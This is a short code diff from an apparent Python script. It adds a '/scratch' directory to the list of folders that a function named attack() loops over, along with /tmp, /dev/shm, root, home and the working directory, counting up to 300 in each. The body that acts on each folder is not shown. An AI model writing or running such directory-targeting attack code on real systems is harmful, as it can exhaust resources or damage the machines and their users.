@@ -5,7 +5,7 @@ import os
 
 
 def attack():
-    for folder in ("/tmp", "/dev/shm", "/var/tmp", "/", os.path.expanduser("~"), os.getcwd()):
+    for folder in ("/scratch", "/tmp", "/dev/shm", "/var/tmp", "/", os.path.expanduser("~"), os.getcwd()):
         number = 0
         while number < 300:
             number += 1
